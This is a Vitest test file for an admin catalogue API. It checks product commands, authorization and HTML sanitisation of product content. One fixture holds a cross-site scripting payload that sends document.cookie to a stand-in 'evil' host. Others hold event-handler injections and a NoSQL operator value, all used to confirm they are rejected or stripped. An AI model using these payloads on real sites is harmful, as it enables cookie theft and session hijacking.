import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTokenService } from '@labshop/platform/auth/tokens';
import { createTestStores } from '@labshop/platform/testing/stores';
import { CATALOGUE_STREAM, productStream } from '@labshop/contracts/catalogue/events';
import type { RecordedEvent } from '@labshop/platform/event-store/port';
import { buildCommandApp } from '../app.ts';
import { adminAuthorization } from '../testing/admin-session.ts';
import { incomingDirOf } from './files/content-store.ts';

const tokens = createTokenService('test-secret-that-is-long-enough-for-hs256');
let stores: Awaited<ReturnType<typeof createTestStores>>;
let app: Awaited<ReturnType<typeof buildCommandApp>>;
let admin: { authorization: string };
let contentDir: string;

beforeAll(async () => {
  stores = await createTestStores();
  contentDir = await mkdtemp(join(tmpdir(), 'labshop-content-'));
  app = await buildCommandApp({ eventStore: stores.eventStore, tokens, contentDir });
  admin = await adminAuthorization(stores.eventStore, tokens);
});
afterAll(async () => {
  await app?.close();
  await stores?.drop();
  if (contentDir)
    await Promise.all([contentDir, incomingDirOf(contentDir)].map((dir) => rm(dir, { recursive: true, force: true })));
});

async function catalogueEvents(): Promise<RecordedEvent[]> {
  const events: RecordedEvent[] = [];
  for await (const event of stores.eventStore.readStream(CATALOGUE_STREAM)) events.push(event);
  return events;
}

const addProduct = (payload: unknown, headers: Record<string, string> = admin) =>
  app.inject({ method: 'POST', url: '/api/admin/catalogue/products', headers, payload: payload as object });

describe('catalogue product commands', () => {
  it('adds a product, recording the admin as the actor, and answers with its position', async () => {
    const response = await addProduct({ name: '  Cell Culture Products  ' });
    expect(response.statusCode).toBe(201);
    const { productId, position } = response.json();
    const [event] = (await catalogueEvents()).filter(
      (e) => e.type === 'ProductCreated' && (e.data as { productId: string }).productId === productId,
    );
    expect(event?.data).toEqual({ productId, name: 'Cell Culture Products', displayOrder: expect.any(Number) });
    expect(event?.metadata.actor).toMatchObject({ kind: 'admin', email: 'admin@labshop.test' });
    expect(event?.position).toBe(position);
  });

  it.each([
    [{}, 'name', 'Product name is required'],
    [{ name: '   ' }, 'name', 'Product name is required'],
    [{ name: 42 }, 'name', 'Product name must be text'],
    [{ name: 'x'.repeat(101) }, 'name', 'Product name must be at most 100 characters'],
    [{ name: { $ne: null } }, 'name', 'Product name must be text'],
  ])('refuses %j with 400 and writes nothing', async (payload, field, message) => {
    const before = (await catalogueEvents()).length;
    const response = await addProduct(payload);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ error: 'BadRequest', fields: { [field]: message } });
    expect(await catalogueEvents()).toHaveLength(before);
  });

  it('refuses unknown fields', async () => {
    const response = await addProduct({ name: 'Western Blot', displayOrder: 0 });
    expect(response.statusCode).toBe(400);
  });

  it('answers 401 without a session and 403 with a customer session, writing nothing', async () => {
    const before = (await catalogueEvents()).length;
    expect((await addProduct({ name: 'x' }, {})).statusCode).toBe(401);
    expect((await addProduct({ name: 'x' }, { authorization: 'Bearer not-a-token' })).statusCode).toBe(401);
    const customer = await tokens.sign({ role: 'customer', sub: 'c1', email: 'shopper@example.com' }, '1h');
    const forbidden = await addProduct({ name: 'x' }, { authorization: `Bearer ${customer}` });
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json()).toMatchObject({
      error: 'Forbidden',
      message: 'Access Denied! Please log in as an Admin.',
    });
    expect(await catalogueEvents()).toHaveLength(before);
  });

  it('renames, hides, reorders and deletes', async () => {
    const a = (await addProduct({ name: 'Alpha' })).json().productId as string;
    const b = (await addProduct({ name: 'Beta' })).json().productId as string;
    const edit = await app.inject({
      method: 'PATCH',
      url: `/api/admin/catalogue/products/${a}`,
      headers: admin,
      payload: { name: 'Alpha 2', visible: false },
    });
    expect(edit.statusCode).toBe(200);
    const all = (await catalogueEvents()).flatMap((e) =>
      e.type === 'ProductCreated' ? [(e.data as { productId: string }).productId] : [],
    );
    const order = [b, ...all.filter((id) => id !== b)];
    const reorder = await app.inject({
      method: 'PUT',
      url: '/api/admin/catalogue/products/order',
      headers: admin,
      payload: { productIds: order },
    });
    expect(reorder.statusCode).toBe(200);
    const remove = await app.inject({ method: 'DELETE', url: `/api/admin/catalogue/products/${a}`, headers: admin });
    expect(remove.statusCode).toBe(200);
    expect((await catalogueEvents()).slice(-4).map((e) => e.type)).toEqual([
      'ProductRenamed',
      'ProductVisibilityChanged',
      'ProductsReordered',
      'ProductDeleted',
    ]);
  });

  it('answers 404 for an unknown product and 400 for an incomplete order', async () => {
    const unknown = await app.inject({
      method: 'DELETE',
      url: '/api/admin/catalogue/products/00000000-0000-4000-8000-000000000000',
      headers: admin,
    });
    expect(unknown.statusCode).toBe(404);
    const incomplete = await app.inject({
      method: 'PUT',
      url: '/api/admin/catalogue/products/order',
      headers: admin,
      payload: { productIds: ['00000000-0000-4000-8000-000000000000'] },
    });
    expect(incomplete.statusCode).toBe(400);
    expect(incomplete.json().fields).toHaveProperty('productIds');
  });

  it('keeps every one of many concurrent additions (conflicts are retried, none lost)', async () => {
    const before = (await catalogueEvents()).length;
    const responses = await Promise.all(Array.from({ length: 8 }, (_, i) => addProduct({ name: `Concurrent ${i}` })));
    const created = responses.filter((response) => response.statusCode === 201).length;
    const conflicts = responses.filter((response) => response.statusCode === 409).length;
    expect(created + conflicts).toBe(8);
    expect(await catalogueEvents()).toHaveLength(before + created);
    const orders = (await catalogueEvents()).flatMap((e) =>
      e.type === 'ProductCreated' ? [(e.data as { displayOrder: number }).displayOrder] : [],
    );
    expect(new Set(orders).size).toBe(orders.length);
  });
});

describe('product content', () => {
  const contentOf = (productId: string) => `/api/admin/catalogue/products/${productId}/content`;
  const changeContent = (productId: string, payload: unknown, headers: Record<string, string> = admin) =>
    app.inject({ method: 'PATCH', url: contentOf(productId), headers, payload: payload as object });
  const productEvents = async (productId: string) => {
    const events: RecordedEvent[] = [];
    for await (const event of stores.eventStore.readStream(productStream(productId))) events.push(event);
    return events;
  };

  it("stores the editor's HTML sanitised in the product's stream, and nothing when it does not change", async () => {
    const productId = (await addProduct({ name: 'Exosome Products' })).json().productId as string;
    const dirty =
      '<h2>Exosomes</h2><p onclick="steal()">Isolation <b>kits</b></p><script>fetch("//evil?c="+document.cookie)</script><img src="x" onerror="alert(1)">';
    const response = await changeContent(productId, { content: dirty });
    expect(response.statusCode).toBe(200);
    const [event] = await productEvents(productId);
    expect(event).toMatchObject({
      type: 'ProductContentChanged',
      position: response.json().position,
      data: { productId, content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' },
    });
    expect(event?.metadata.actor).toMatchObject({ kind: 'admin', email: 'admin@labshop.test' });

    const same = await changeContent(productId, { content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' });
    expect(same.json().position).toBe(event?.position);
    expect(await productEvents(productId)).toHaveLength(1);
  });

  it('refuses bad content with 400, an unknown product with 404, and strangers with 401/403, writing nothing', async () => {
    const productId = (await addProduct({ name: 'Western Blot' })).json().productId as string;
    const cases: [unknown, number, Record<string, string> | undefined][] = [
      [{ content: 42 }, 400, { content: 'Content must be text' }],
      [{ content: 'x'.repeat(100_001) }, 400, { content: 'Content must be at most 100000 characters' }],
      [{}, 400, { content: 'Content must be text' }],
    ];
    for (const [payload, status, fields] of cases) {
      const response = await changeContent(productId, payload);
      expect(response.statusCode).toBe(status);
      expect(response.json().fields).toEqual(fields);
    }
    expect((await changeContent('00000000-0000-4000-8000-000000000000', { content: 'x' })).json()).toMatchObject({
      error: 'NotFound',
      message: 'Product not found',
    });
    expect((await changeContent(productId, { content: 'x' }, {})).statusCode).toBe(401);
    const customer = await tokens.sign({ role: 'customer', sub: 'c1', email: 'shopper@example.com' }, '1h');
    expect((await changeContent(productId, { content: 'x' }, { authorization: `Bearer ${customer}` })).statusCode).toBe(
      403,
    );
    expect(await productEvents(productId)).toHaveLength(0);
  });
});
